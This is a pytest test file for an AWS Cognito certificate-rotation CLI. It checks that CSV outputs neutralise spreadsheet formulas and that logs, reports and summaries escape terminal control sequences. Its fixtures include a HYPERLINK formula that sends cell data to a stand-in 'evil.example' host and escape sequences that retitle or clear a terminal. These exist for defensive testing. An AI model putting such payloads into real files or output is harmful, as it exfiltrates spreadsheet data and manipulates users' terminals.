"""Outputs stay data: CSV cells are never formulas, outside text never drives the terminal, and the one report
reader checks every column it needs up front (issues 21 and 17)."""

from __future__ import annotations

import io
import json
import sqlite3
from collections import Counter
from pathlib import Path

import pytest
import structlog
from click.testing import CliRunner
from rich.console import Console

from fleet.cli import logs, main
from fleet.cli.progress import summary_table
from fleet.csv_cells import neutralise, restore
from fleet.manifest import Row, parse, write
from fleet.outcome import Outcome, Status
from fleet.records.change_record import load
from fleet.records.html import html
from fleet.records.markdown import markdown
from fleet.records.report import COLUMNS, ReportError, read_report, write_lines

from ..files import csv_rows

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\u202e"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
CERT = "arn:aws:acm:us-east-1:111122223333:certificate/0c9a1b2e-3f4d-4e5f-8a9b-"


@pytest.mark.parametrize(
    "value",
    [
        *("", "plain", FORMULA, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'", "''", "'=x", "'plain", "-5", "12", "a=b"),
        *(ESCAPES, "Bad" + ESCAPES, "=\x1b", "a\\x1b\x1b", "'\\x1b", "\\", "x\x85y", "tab\tand\nnewline"),
    ],
)
def test_neutralise_is_undone_exactly(value: str) -> None:
    cell = neutralise(value)
    assert restore(cell) == value
    if value[:1] in ("=", "+", "@", "\t", "\r") or value in ("-2+3",):
        assert cell.startswith("'")  # OWASP: a leading quote, shown as text by spreadsheets
    if value in (FORMULA, "+1", "-2+3", "@SUM(A1)", "\tx"):
        assert cell == "'" + value  # and nothing else changed
    if value in ("-5", "12", "plain", "a=b"):
        assert cell == value  # numbers and ordinary text are written as they are


def test_control_characters_are_escaped_in_csv_cells_and_nothing_else() -> None:
    assert neutralise("Bad" + ESCAPES) == "'\\Bad\\x1b]0;pwned\\x07\\x1b[2J\\u202e"  # visible, a text cell
    assert neutralise("C:\\dir\x1b") == "'\\C:\\\\dir\\x1b"  # a backslash doubled, so it reads back exactly
    assert neutralise("two\nlines\tand a tab") == "two\nlines\tand a tab"  # ordinary in a quoted cell
    assert neutralise("a\\x1b") == "a\\x1b"  # no control character: written as it is


def test_an_aws_message_with_escape_sequences_lands_escaped_in_the_report_csv(tmp_path: Path) -> None:
    report = tmp_path / "r.report.csv"
    write_lines(report, [line("a.example.com", error_code="Bad" + ESCAPES, error_message="x\x1b[31my\u202e")])
    text = report.read_text(encoding="utf-8")
    assert not any(c in text for c in "\x1b\x07\u202e"), text  # `cat r.report.csv` obeys nothing
    raw = csv_rows(report)[0]
    assert raw["error_message"] == "'\\x\\x1b[31my\\u202e"
    back = read_report(report, COLUMNS).lines[0]
    assert back["error_code"] == "Bad" + ESCAPES and back["error_message"] == "x\x1b[31my\u202e"
    assert load(report).entries[0].error_message == "x\x1b[31my\u202e"  # the change record reads it back too


def line(domain: str, **more: object) -> dict[str, object]:
    base: dict[str, object] = {c: "" for c in COLUMNS}
    base.update(
        account_id="111122223333",
        region="eu-west-1",
        user_pool_id="eu-west-1_abc",
        domain=domain,
        previous_certificate_arn=CERT + "000000000002",
        certificate_arn=CERT + "000000000001",
        status="failed",
        attempts=1,
        drift=False,
    )
    base.update(more)
    return base


def test_an_aws_message_starting_with_equals_is_neutralised_in_the_report_and_read_back(tmp_path: Path) -> None:
    report = tmp_path / "r.report.csv"
    write_lines(report, [line("a.example.com", error_code="Bad" + ESCAPES, error_message=FORMULA)])
    raw = csv_rows(report)[0]
    assert raw["error_message"] == "'" + FORMULA  # the file a spreadsheet opens
    assert json.loads(report.with_suffix(".jsonl").read_text())["error_message"] == FORMULA  # JSON stays exact
    back = read_report(report, COLUMNS).lines[0]
    assert back["error_message"] == FORMULA and back["error_code"] == "Bad" + ESCAPES
    entry = load(report).entries[0]
    assert entry.error_message == FORMULA


def test_markdown_html_and_the_summary_show_control_characters_as_escapes(tmp_path: Path) -> None:
    report = tmp_path / "r.report.csv"
    write_lines(report, [line("a.example.com", error_code="Bad" + ESCAPES, error_message="x\x1b[31my")])
    record = load(report)
    for text in (markdown(record), html(record)):
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
        assert "x1b" in text and "pwned" in text  # shown, as an escape (Markdown escapes its backslash again)
    out = io.StringIO()
    summary_table(
        Counter({"failed": 1}),
        Counter({"Bad" + ESCAPES + "[bold]": 1}),
        Counter({"111122223333": 1}),
        console=Console(file=out, width=200, color_system=None),
    )
    shown = out.getvalue()
    assert "\x1b" not in shown and "\\x1b]0;pwned" in shown and "[bold]" in shown  # markup printed, not obeyed


def test_console_logs_escape_control_characters(capsys: pytest.CaptureFixture[str]) -> None:
    logs.configure("console", "info")
    try:
        row = Row(2, "111122223333", "eu-west-1", "eu-west-1_abc", "a.example.com", CERT + "000000000001")
        outcome = Outcome(
            domain="a.example.com",
            status=Status.FAILED,
            certificate_arn=CERT + "000000000001",
            error_code="Bad" + ESCAPES,
            error_message="boom\x1b[2J",
        )
        logs.RowLogger().row_done(row, outcome, 0.1)
        logs.say("message from outside\x1b[2J")
    finally:
        structlog.reset_defaults()
    captured = capsys.readouterr()
    for text in (captured.err, captured.out):
        assert "\x1b]0" not in text and "\x1b[2J" not in text and "\u202e" not in text
    assert "\\x1b]0;pwned" in captured.err and "\\x1b[2J" in captured.out


def test_a_manifest_cell_that_looks_like_a_formula_is_written_neutralised_and_read_back(tmp_path: Path) -> None:
    rows = [
        Row(
            0,
            "111122223333",
            "eu-west-1",
            "eu-west-1_abc",
            "a.example.com",
            CERT + "000000000001",
            "arn:aws:iam::111122223333:role/R",
            "=abc@x",  # an external id may start with "=" (IAM allows +=,.@:/-)
        )
    ]
    path = write(tmp_path / "m.csv", rows)
    assert csv_rows(path)[0]["external_id"] == "'=abc@x"
    assert parse(path).rows[0].external_id == "=abc@x"


def test_rollback_of_a_report_missing_columns_names_them_exit_2(tmp_path: Path) -> None:
    report = tmp_path / "partial.csv"
    report.write_text(
        f"domain,status,certificate_arn,previous_certificate_arn\na.example.com,pending,{CERT}n,{CERT}o\n"
    )
    result = CliRunner().invoke(main, ["rollback", str(report), "--out", str(tmp_path / "back.csv")])
    assert result.exit_code == 2, result.output
    assert "missing columns: account_id, region, user_pool_id" in result.output
    assert "unexpected" not in result.output and len(result.output.strip().splitlines()) == 1
    assert not (tmp_path / "back.csv").exists()


def test_the_report_reader_checks_the_columns_its_caller_needs(tmp_path: Path) -> None:
    report = tmp_path / "r.csv"
    report.write_text("status,account_id\nfailed,1\n")
    with pytest.raises(ReportError, match="missing columns: error_code"):
        read_report(report, ("status", "error_code", "account_id"))


def test_report_refuses_a_sqlite_file_and_leaves_it_byte_identical(tmp_path: Path) -> None:
    other = tmp_path / "other.sqlite"
    with sqlite3.connect(other) as db:
        db.execute("CREATE TABLE t (x)")
    db.close()
    before = other.read_bytes()
    result = CliRunner().invoke(main, ["report", str(other)])
    assert result.exit_code == 2 and "not a cognito-fleet report" in result.output, result.output
    assert other.read_bytes() == before


def test_an_aws_error_message_that_looks_like_a_formula_stays_data_end_to_end(make_fleet) -> None:
    # AWS's own answer (injected by the sandbox) starts with "=": the report CSV neutralises it, the JSON Lines
    # keep it exact, and the tool's own reader gives it back as AWS sent it.
    fleet = make_fleet(accounts=1, regions=("us-east-1",), per_region=1)
    formula = '=HYPERLINK("http://evil.example/","click")'
    fleet.box.state.configure(
        inject=[{"operation": "DescribeUserPoolDomain", "code": "InvalidParameterException", "message": formula}]
    )
    result = fleet.run(max_attempts=1)
    assert result.exit_code == 1
    raw = fleet.report.read_text(encoding="utf-8")
    assert "'" + formula.replace('"', '""') in raw and "," + formula not in raw  # a text cell, never a formula
    (line,) = [json.loads(x) for x in fleet.report.with_suffix(".jsonl").read_text(encoding="utf-8").splitlines()]
    assert line["error_message"] == formula and line["error_code"] == "InvalidParameterException"
    (back,) = read_report(fleet.report, ("error_message",)).lines
    assert back["error_message"] == formula
